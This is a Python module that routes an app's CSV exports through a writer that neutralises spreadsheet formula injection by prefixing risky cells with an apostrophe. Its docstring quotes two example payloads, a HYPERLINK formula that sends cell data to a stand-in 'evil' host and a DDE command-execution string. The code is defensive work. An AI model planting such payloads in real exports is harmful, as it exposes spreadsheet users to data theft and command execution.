"""The one CSV writer: every CSV file the app hands out goes through `writer()`.

A spreadsheet opening a CSV evaluates a cell that starts with `=`, `+`, `-` or `@` (and,
in some, a tab or carriage return before one) as a formula: a payee named
`=HYPERLINK("http://evil/?"&A1)` or `+cmd|' /C calc'!A0` would run in the county's
Excel (CSV injection, OWASP). Such a cell is written with a leading apostrophe, which
Excel shows as text. Numbers (a reversal's `-12.50`) stay numbers: only text that is not a
plain decimal is touched. UTF-8 with BOM, so Excel opens the Chinese intact; CRLF rows.
"""
from __future__ import annotations

import csv
import io
import re
from typing import Any, BinaryIO, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n",
                 # Full-width forms: some spreadsheet locales fold them to ASCII.
                 "＝", "＋", "－", "＠")
_STARTS = frozenset(FORMULA_START)
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")


def safe_cell(value: Any) -> Any:
    """A cell's value with any formula start neutralised; None → ""."""
    if value is None:
        return ""
    if (isinstance(value, str) and value[:1] in _STARTS
            and not _PLAIN_NUMBER.match(value)):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer whose every cell passes through `safe_cell`."""

    def __init__(self, text):
        self._writer = csv.writer(text, lineterminator="\r\n")

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([safe_cell(c) for c in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


class writer:  # noqa: N801 (used like csv.writer, as a context manager)
    """`with csvfile.writer(fh) as w: w.writerow(...)` over a binary file."""

    def __init__(self, fh: BinaryIO):
        self._text = io.TextIOWrapper(fh, encoding="utf-8-sig", newline="")

    def __enter__(self) -> _SafeWriter:
        return _SafeWriter(self._text)

    def __exit__(self, *exc) -> None:
        self._text.flush()
        self._text.detach()  # the caller owns fh


def to_bytes(rows: Iterable[Iterable]) -> bytes:
    """The whole CSV (header row first in `rows`) as bytes."""
    out = io.BytesIO()
    with writer(out) as w:
        w.writerows(rows)
    return out.getvalue()
